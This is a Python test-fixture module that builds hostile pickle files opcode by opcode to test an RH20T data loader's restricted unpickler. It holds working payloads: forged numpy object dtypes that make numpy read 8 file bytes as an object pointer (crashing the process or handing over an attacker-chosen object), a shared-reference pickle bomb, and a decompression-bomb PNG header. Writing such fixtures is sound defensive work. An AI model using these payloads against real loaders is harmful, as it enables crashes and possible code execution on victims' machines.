"""Hostile RH20T pickles built opcode by opcode (shared by the security and fuzz tests).

Built with names the restricted loader admits: numpy.dtype('O8') followed by a BUILD whose state clears the dtype's
flags (numpy's dtype.__setstate__ accepts any), then multiarray.scalar of that dtype over 8 bytes of the file. numpy
then reads the bytes as a PyObject pointer: 0x4141414141414141 crashes (SIGSEGV), a known address hands the attacker
an object (a function) of their choice.
"""

from __future__ import annotations

import io
import pickle
import struct
import zlib
from pathlib import Path

import numpy as np
from numpy.lib import format as npy_format


def str_op(s: str) -> bytes:
    return pickle.SHORT_BINUNICODE + bytes([len(s)]) + s.encode()


def int_op(n: int) -> bytes:
    return pickle.BININT + n.to_bytes(4, "little", signed=True)


def global_op(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def dtype_ops(spec: str, flags: int) -> bytes:
    """numpy.dtype(spec, False, True) and a BUILD with numpy's state layout for it, carrying ``flags``."""
    return (global_op("numpy", "dtype") + str_op(spec) + pickle.NEWFALSE + pickle.NEWTRUE + pickle.TUPLE3
            + pickle.REDUCE + pickle.MARK + int_op(3) + str_op("|") + pickle.NONE * 3 + int_op(-1) + int_op(-1)
            + int_op(flags) + pickle.TUPLE + pickle.BUILD)


OBJECT_FLAGS = np.dtype("O").__reduce__()[2][-1]  # 63: numpy's own flags of the object dtype
FORGED_OBJECT_DTYPE = pickle.PROTO + b"\x02" + dtype_ops("O8", 0) + pickle.STOP


def object_array_ops(dtype: bytes, data_ops: bytes) -> bytes:
    """numpy's pickle of an object array: _reconstruct(ndarray, (0,), b'b') + BUILD (1, (), dtype, False, data)."""
    return (global_op("numpy._core.multiarray", "_reconstruct") + global_op("numpy", "ndarray") + pickle.BININT1
            + b"\x00" + pickle.TUPLE1 + pickle.SHORT_BINBYTES + b"\x01b" + pickle.TUPLE3 + pickle.REDUCE
            + pickle.MARK + int_op(1) + pickle.EMPTY_TUPLE + dtype + pickle.NEWFALSE + data_ops + pickle.TUPLE
            + pickle.BUILD)


def planted_npy(path: Path, pickle_ops: bytes) -> Path:
    """A 0-d object-array .npy (what RH20T's pickled dicts are) whose pickle is ``pickle_ops``."""
    buf = io.BytesIO()
    npy_format.write_array_header_1_0(buf, npy_format.header_data_from_array_1_0(np.empty((), object)))
    path.write_bytes(buf.getvalue() + pickle.PROTO + b"\x02" + pickle_ops + pickle.STOP)
    return path


FORGED_SCALAR = (global_op("numpy._core.multiarray", "scalar") + dtype_ops("O8", 0) + pickle.SHORT_BINBYTES + b"\x08"
                 + b"A" * 8 + pickle.TUPLE2 + pickle.REDUCE)
MEMORY_PRIMITIVES = {
    # the outer wrapper is a legitimate object array; its one element is the forged object scalar
    "object_scalar_from_forged_dtype": object_array_ops(dtype_ops("O8", OBJECT_FLAGS),
                                                         pickle.EMPTY_LIST + FORGED_SCALAR + pickle.APPEND),
    # the wrapper's own dtype is forged: ndarray.__setstate__ copies 8 bytes of the file in as an object pointer
    "object_array_from_bytes": object_array_ops(dtype_ops("O8", 0), pickle.SHORT_BINBYTES + b"\x08" + b"A" * 8),
    # an object scalar over a genuine object dtype (numpy never writes one; its data would be a pointer too)
    "object_scalar": object_array_ops(dtype_ops("O8", OBJECT_FLAGS), pickle.EMPTY_LIST + global_op(
        "numpy._core.multiarray", "scalar") + dtype_ops("O8", OBJECT_FLAGS) + pickle.SHORT_BINBYTES + b"\x08"
        + b"A" * 8 + pickle.TUPLE2 + pickle.REDUCE + pickle.APPEND),
}


def shared_reference_bomb(levels: int = 40) -> bytes:
    """A list holding the previous one twice, ``levels`` deep: a few hundred bytes of pickle, 2**levels leaves as a
    tree."""
    ops = pickle.EMPTY_LIST + pickle.BINPUT + b"\x00" + pickle.POP
    for i in range(levels):
        ops += pickle.EMPTY_LIST + pickle.BINGET + bytes([i]) + pickle.APPEND + pickle.BINGET + bytes([i])
        ops += pickle.APPEND + pickle.BINPUT + bytes([i + 1]) + pickle.POP
    ops += pickle.BINGET + bytes([levels])
    return object_array_ops(dtype_ops("O8", OBJECT_FLAGS), pickle.EMPTY_LIST + ops + pickle.APPEND)


def png_header_only(width: int, height: int) -> bytes:
    """A valid PNG signature, IHDR and IEND around one short IDAT: what a decompression bomb looks like to a header
    reader (the red-team file was a 261 KB PNG of 16384 x 16384 zeros)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * (width + 1)))
            + chunk(b"IEND", b""))
